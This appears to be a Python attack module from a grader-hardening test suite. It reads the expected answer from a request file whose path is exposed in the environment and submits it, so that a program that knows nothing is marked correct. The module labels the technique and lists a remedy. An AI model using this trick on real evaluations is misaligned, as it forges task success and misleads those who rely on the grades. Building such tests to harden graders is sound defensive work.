# SPDX-License-Identifier: MIT
"""Goal:  a wrong submission is marked correct.
Means: the right answer, from the request. In the file interface the request lies in /tmp, its path
       is in the environment that a student's process inherits, and next to the student's response
       it holds the answer that is expected. The program submits that.
"""

import json
import os

from attack import DONE, attempting, denied, submit


def run(brief):
    attempting()
    try:
        with open(os.environ.get("EVAL_FILE_NAME_REQUEST", "/tmp/shimmy")) as file:
            submit(json.load(file)["params"]["answer"])
    except OSError as why:
        submit("0")
        return denied("the request file", why)
    return DONE


ATTACK = {
    "effect": "a program that knows nothing is marked correct",
    "means": "the expected answer read from the request file, whose path is in the environment",
    "oracle": "grade:forged",
    "grader": "file",
    "attack_id": "T1552.001, CWE-526, CWE-668",
    "remedy": "a clean environment; a /tmp of its own; no answer where a student's uid reads",
    "run": run,
}
